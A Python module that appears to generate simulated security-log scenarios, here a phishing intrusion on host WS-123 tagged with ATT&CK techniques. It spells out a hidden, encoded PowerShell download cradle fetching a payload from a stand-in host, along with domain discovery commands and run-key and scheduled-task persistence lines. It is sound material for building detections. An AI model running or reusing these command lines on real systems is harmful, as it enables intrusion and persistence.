"""Intrusions on workstations and servers."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from .calendar import moment
from .processes import Process, standing
from .stock import Stock
from .story import Story
from .tenant import Tenant

__all__ = ["encoded", "encoded_powershell"]

_C2, _DOMAIN = "203.0.113.77", "cdn-invoice.example"
_PAYLOAD = r"C:\Users\jonas\AppData\Roaming\Microsoft\OneDriveSync\odsync.exe"


def encoded(script: str) -> str:
    """Return a script as PowerShell's -EncodedCommand takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def encoded_powershell(stock: Stock, company: Tenant) -> Story:
    """A macro on WS-123 starts a download cradle, which beacons and stays by a run key and a task."""
    story = Story(
        stock, "encoded-powershell-ws-123", "incident", "A macro runs an encoded PowerShell download cradle on WS-123",
        "Show suspicious PowerShell activity on host WS-123 in the last day",
        "What did jonas@contoso.com's workstation download this morning?",
    )  # fmt: skip
    at = moment(16, "08:12:09")
    shell = _macro(story, company, at)
    implant = _second_stage(story, shell, at + timedelta(seconds=26))
    _settle(story, shell, at + timedelta(seconds=97))
    for beat in range(96):
        when = at + timedelta(seconds=118 + 300 * beat + beat * 7 % 13)
        technique = "T1071.001" if beat == 0 else ""
        story.connect(when, implant, _C2, 443, technique, "the payload calls home every five minutes", url=_DOMAIN)
    story.alert(
        at + timedelta(minutes=4),
        "Suspicious PowerShell download or encoded command execution",
        "Medium",
        "Execution",
        "T1059.001 T1105",
        process=shell,
        account=shell.actor,
        address=_C2,
    )
    return story


def _macro(story: Story, company: Tenant, at: datetime) -> Process:
    host, jonas = company.hosts["WS-123"], company.accounts["jonas"]
    outlook = standing(host, "OUTLOOK.EXE", jonas)
    attachment = (
        r"C:\Users\jonas\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\T8QK2ZVB\Overdue invoice 88213.docm"
    )
    story.file(at, outlook, attachment, "T1566.001", "the attachment is opened from the mail")
    word = story.process(
        at + timedelta(seconds=2),
        outlook,
        "WINWORD.EXE",
        rf'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{attachment}" /o ""',
        "T1204.002",
        "Word opens a document with macros",
    )
    cradle = (
        "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
        f"IEX $c.DownloadString('http://{_DOMAIN}/u/a.ps1')"
    )
    shell = story.process(
        at + timedelta(seconds=19),
        word,
        "powershell.exe",
        f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {encoded(cradle)}",
        "T1059.001 T1027.010",
        "Word starts hidden, encoded PowerShell",
    )
    story.connect(
        at + timedelta(seconds=21),
        shell,
        _C2,
        80,
        "T1105",
        "PowerShell fetches the second stage",
        url=f"http://{_DOMAIN}/u/a.ps1",
    )
    return shell


def _second_stage(story: Story, shell: Process, at: datetime) -> Process:
    story.file(
        at,
        shell,
        _PAYLOAD,
        "T1105",
        "the second stage is written to the profile",
        url=f"http://{_DOMAIN}/u/odsync.exe",
        origin=_C2,
    )
    for name, line, technique in (
        ("whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all', "T1033"),
        ("net.exe", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain', "T1069.002"),
        ("nltest.exe", '"C:\\Windows\\system32\\nltest.exe" /domain_trusts', "T1482"),
    ):
        at += timedelta(seconds=11)
        story.process(at, shell, name, line, technique, f"discovery with {name}")
    return story.process(
        at + timedelta(seconds=54),
        shell,
        "odsync.exe",
        _PAYLOAD,
        "T1036.005",
        "the payload starts under the name of a OneDrive part",
        folder=_PAYLOAD.rpartition("\\")[0],
    )


def _settle(story: Story, shell: Process, at: datetime) -> None:
    run = rf"HKEY_CURRENT_USER\{shell.actor.sid}\Software\Microsoft\Windows\CurrentVersion\Run"
    story.registry(
        at,
        shell,
        run,
        "OneDriveSync",
        _PAYLOAD,
        "T1547.001",
        "a run key starts the payload at logon",
    )
    story.process(
        at + timedelta(seconds=7),
        shell,
        "schtasks.exe",
        r'"C:\Windows\system32\schtasks.exe" /create /f /sc minute /mo 30 /tn "OneDrive Sync Standalone" '
        f'/tr "{_PAYLOAD}"',
        "T1053.005",
        "a task starts the payload every half hour",
    )
